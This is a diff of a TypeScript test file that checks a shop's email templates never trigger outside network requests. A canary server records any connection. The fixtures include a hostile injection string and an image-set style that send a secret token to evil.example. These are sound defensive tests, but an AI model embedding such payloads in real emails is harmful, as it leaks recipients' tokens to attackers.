@@ -17,7 +17,7 @@ const shared = sharedValues(
 );
 const secret = 's3cr3t-0f-an-order';
 
-/** Stands for every other host there is: notes whatever connects, and what it says first. */
+/** Represents every other host: records each connection, and its first bytes. */
 const heard: string[] = [];
 let canary: Server;
 /** The shop, with the frame that shows drafts. */
@@ -82,7 +82,7 @@ const settled = (of: Page) =>
       }),
   );
 
-/** What another host hears while somebody reads this on a phone in the dark, where most rules of a sheet apply. */
+/** What another host receives while someone reads this on a phone in dark mode, where most rules of a sheet apply. */
 async function leaksOf(html: string): Promise<readonly string[]> {
   heard.length = 0;
   await page.setContent(html);
@@ -93,13 +93,13 @@ async function leaksOf(html: string): Promise<readonly string[]> {
 /** A value that tries everything that a value can. */
 const hostile = `http://evil.example/x"'><img src=http://evil.example/i><style>@import "http://evil.example/s"</style>;background:url(http://evil.example/u)`;
 
-test('a canary hears of a mail that loads from elsewhere, with its secret', async () => {
+test('a canary server sees an email load from elsewhere, with its secret', async () => {
   const html = `<p style="background:image-set('http://evil.example/{{token}}' 1x)">x</p>`;
   const mail = renderEmail({ key: 'x', subject: '', html, text: '' }, { token: secret }, shared);
   expect(await leaksOf(mail.html)).toContain(`GET /${secret} HTTP/1.1`);
 });
 
-test('no mail of the shop makes a reader ask anybody anything, whatever its values are', async () => {
+test("no email of the shop makes a reader's client request anything, whatever its values are", async () => {
   expect(templates.length).toBeGreaterThan(50);
   const loud: string[] = [];
   for (const template of templates) {
@@ -110,9 +110,9 @@ test('no mail of the shop makes a reader ask anybody anything, whatever its valu
   expect(loud).toEqual([]);
 });
 
-describe('of a mail that was stored under older rules', () => {
+describe('an email stored under older rules', () => {
   const values = { token: secret, store_name: 'Iron Works', takeover: true, expires: 'May 1' };
-  const invitation = { key: 'vendor-invitation', subject: 'You are invited', html: ownLink, text: ownText };
+  const invitation = { key: 'vendor-invitation', subject: "You're invited", html: ownLink, text: ownText };
   const builtIn = renderEmail(invitation, values, shared);
   const rendered = mailAttacks
     .filter(({ field, kind }) => field === 'html' && kind !== 'tag' && kind !== 'shape')
@@ -122,7 +122,7 @@ describe('of a mail that was stored under older rules', () => {
       return { name: `${kind}: ${title}`, kind, html: mail.html, problem };
     });
 
-  test('what is sent all the same asks nobody anything', async () => {
+  test('requests nothing if it is sent', async () => {
     const loud: string[] = [];
     for (const { name, html, problem } of rendered) {
       if (problem === null && (await leaksOf(html)).length > 0) loud.push(name);
@@ -130,7 +130,7 @@ describe('of a mail that was stored under older rules', () => {
     expect(loud).toEqual([]);
   });
 
-  test('what is not sent would have asked', async () => {
+  test('would have requested something if it is not sent', async () => {
     const loud = [];
     for (const { name, kind, html } of rendered) {
       if (['style', 'sheet', 'picture'].includes(kind) && (await leaksOf(html)).length > 0) loud.push(name);
@@ -148,7 +148,7 @@ describe('of a mail that was stored under older rules', () => {
     );
   });
 
-  test('the preview asks nobody anything, even if it were shown', async () => {
+  test('requests nothing in its preview, even if it were shown', async () => {
     const editor = await browser.newPage();
     const loud: string[] = [];
     for (const { name, html } of rendered) {
